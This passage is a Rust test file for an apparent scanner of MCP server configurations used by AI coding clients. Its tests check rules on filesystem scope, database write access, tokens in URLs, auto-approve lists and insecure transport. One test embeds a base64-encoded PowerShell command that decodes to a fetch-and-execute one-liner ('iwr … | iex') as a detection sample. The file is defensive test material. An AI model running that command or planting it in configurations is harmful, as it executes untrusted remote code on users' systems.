        "config-tracked-with-secret",
        "config-world-readable",
        "database-write-access",
        "unrestricted-fetch",
        "config-parse-error",
    ] {
        assert!(ids.contains(&id), "missing rule {id}");
    }
}

#[test]
fn server_inventory() {
    let text = r#"{"mcpServers": {
        "fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/srv"], "env": {"A": "1"}},
        "remote": {"type": "http", "url": "https://mcp.example.com/mcp?token=Zx8vQ2mN4pL7rT9wK3hJ6fD1sA5gB0cE"},
        "dock": {"command": "docker", "args": ["run", "-i", "ghcr.io/github/github-mcp-server:v1.0.0"]}
    }}"#;
    let r = scan_one(
        Client::ClaudeCode,
        ConfigKind::McpServers,
        Format::Json,
        ".mcp.json",
        text,
        &NoFacts,
    );
    let fs = &r.servers[0];
    assert_eq!(
        (fs.id.as_str(), fs.transport),
        ("/fixtures/.mcp.json#fs", "stdio")
    );
    let pkg = fs.package.as_ref().expect("package");
    assert_eq!(
        (pkg.name.as_str(), pkg.version.as_deref()),
        ("@modelcontextprotocol/server-filesystem", Some("2025.8.21"))
    );
    assert!(fs.capabilities.contains(&mcpward_scan::Capability::FsRead));
    assert_eq!(fs.env_keys, ["A"]);
    let remote = &r.servers[1];
    assert_eq!(remote.transport, "http");
    assert!(
        !remote
            .url
            .as_deref()
            .unwrap_or_default()
            .contains("Zx8vQ2mN4pL7rT9wK3hJ6fD1sA5gB0cE")
    );
    let dock = &r.servers[2];
    let pkg = dock.package.as_ref().expect("image");
    assert_eq!(
        (pkg.ecosystem, pkg.name.as_str(), pkg.version.as_deref()),
        (
            mcpward_scan::Ecosystem::Docker,
            "ghcr.io/github/github-mcp-server",
            Some("v1.0.0")
        )
    );
}

fn scan_many(files: &[(&str, &str)]) -> Report {
    let mut input = Input {
        home: Some("/home/dev".into()),
        ..Input::default()
    };
    for (path, text) in files {
        let candidate = Candidate {
            path: PathBuf::from(path),
            client: Client::ClaudeCode,
            kind: ConfigKind::McpServers,
            format: Format::Json,
        };
        input
            .docs
            .push(load(&candidate, text.as_bytes()).expect("fixture parses"));
    }
    scan(&input, &NoFacts)
}

#[test]
fn toxic_flow_only_combines_servers_that_run_together() {
    let fetch =
        r#"{"mcpServers": {"fetch": {"command": "uvx", "args": ["mcp-server-fetch==2025.4.7"]}}}"#;
    let fs = r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "."]}}}"#;
    // Two repositories, one server each: never loaded together.
    let r = scan_many(&[("/work/a/.mcp.json", fetch), ("/work/b/.mcp.json", fs)]);
    assert!(fired(&r, "toxic-flow").is_empty(), "{:#?}", r.findings);
    // A user-level server joins every project.
    let r = scan_many(&[("/home/dev/.claude.json", fetch), ("/work/b/.mcp.json", fs)]);
    assert_eq!(fired(&r, "toxic-flow").len(), 1, "{:#?}", r.findings);
    // The same project.
    let r = scan_many(&[
        ("/work/a/.mcp.json", fetch),
        ("/work/a/.cursor/mcp.json", fs),
    ]);
    assert_eq!(fired(&r, "toxic-flow").len(), 1, "{:#?}", r.findings);
}

#[test]
fn database_read_only_spellings() {
    for (args, env) in [
        (
            &["postgres-mcp==0.3.0", "--access-mode", "restricted"][..],
            None,
        ),
        (
            &["postgres-mcp==0.3.0"],
            Some((
                "DATABASE_URI",
                "postgresql://localhost/app?options=-c%20default_transaction_read_only%3Don&default_transaction_read_only=on",
            )),
        ),
        (
            &["acme-mongo-mcp==1.0.0"],
            Some(("MDB_MCP_READ_ONLY", "true")),
        ),
    ] {
        let mut spec = stdio("acme-db", "uvx", args);
        if let Some((k, v)) = env {
            spec = spec.env(k, v);
        }
        silent("database-write-access", &[spec]);
    }
    fires(
        "database-write-access",
        &[stdio("acme-mysql", "npx", &["-y", "acme-mysql-mcp@1.0.0"])
            .env("ALLOW_INSERT_OPERATION", "true")
            .env("MYSQL_READONLY", "false")],
    );
}

#[test]
fn defaults_of_variables_are_judged_as_literals() {
    fires(
        "broad-filesystem-scope",
        &[stdio("fs", "npx", &["-y", FS, "${ROOT:-/}"])],
    );
    fires(
        "insecure-transport",
        &[remote("r", "${MCP_URL:-http://10.0.0.5/mcp}")],
    );
    silent(
        "insecure-transport",
        &[remote("r", "http://127.1:8080/mcp")],
    );
}

#[test]
fn wrong_shapes_are_parse_errors_not_silence() {
    for text in [
        r#"{"mcpServers": {"a": {"command": "npx", "args": "-y pkg /"}}}"#,
        r#"{"mcpServers": {"a": {"command": ["npx", "-y", "pkg"]}}}"#,
        r#"{"mcpServers": {"a": {"command": ""}}}"#,
        r#"{"mcpServers": {"a": {"url": 12345}}}"#,
        r#"{"mcpServers": {"a": {"command": "npx", "args": [{"x": 1}]}}}"#,
        r#"{"mcpServers": {"a": {"command": "npx", "env": ["A=1"]}}}"#,
        r#"{"mcpServers": {"a": {"command": "x"}, "a": {"command": "y"}}}"#,
    ] {
        let r = scan_one(
            Client::ClaudeCode,
            ConfigKind::McpServers,
            Format::Json,
            ".mcp.json",
            text,
            &NoFacts,
        );
        assert!(
            !fired(&r, "config-parse-error").is_empty(),
            "{text}: {:#?}",
            r.findings
        );
    }
    // The last of two declarations is the one the client runs.
    let r = scan_one(
        Client::ClaudeCode,
        ConfigKind::McpServers,
        Format::Json,
        ".mcp.json",
        r#"{"mcpServers": {"a": {"command": "x"}, "a": {"command": "y"}}}"#,
        &NoFacts,
    );
    assert_eq!(r.servers.len(), 1);
    assert_eq!(r.servers[0].command.as_deref(), Some("y"));
}

#[test]
fn auto_approve_severity_follows_the_tools() {
    let sev = |tools: &str| {
        let text = format!(
            r#"{{"mcpServers": {{"fs": {{"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/srv"], "autoApprove": {tools}}}}}}}"#
        );
        let r = scan_one(
            Client::Cline,
            ConfigKind::McpServers,
            Format::Json,
            "c.json",
            &text,
            &NoFacts,
        );
        fired(&r, "auto-approve")[0].severity
    };
    assert_eq!(sev(r#"["read_file", "list_directory"]"#), Severity::Low);
    assert_eq!(sev(r#"["read_file", "write_file"]"#), Severity::High);
    assert_eq!(sev(r#"["*"]"#), Severity::High);
}

#[test]
fn known_token_in_url_is_critical() {
    let url = "https://mcp.example.com/mcp?token=ghp_R7kX2mQ9vL4pT8wN3bZ6cY1dF5gH0jS2aE7u";
    let text = format!(r#"{{"mcpServers": {{"r": {{"url": "{url}"}}}}}}"#);
    let r = scan_one(
        Client::ClaudeCode,
        ConfigKind::McpServers,
        Format::Json,
        ".mcp.json",
        &text,
        &NoFacts,
    );
    assert_eq!(fired(&r, "token-in-url")[0].severity, Severity::Critical);
}

#[test]
fn encoded_powershell_is_critical() {
    let (client, kind, format, file, text) = render_all(&[stdio(
        "p",
        "powershell",
        &[
            "-NoProfile",
            "-EncodedCommand",
            "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAgAHwAIABpAGUAeAA=",
        ],
    )])
    .remove(0);
    let r = scan_one(client, kind, format, file, &text, &NoFacts);
    assert_eq!(
        fired(&r, "shell-command-server")[0].severity,
        Severity::Critical
    );
}
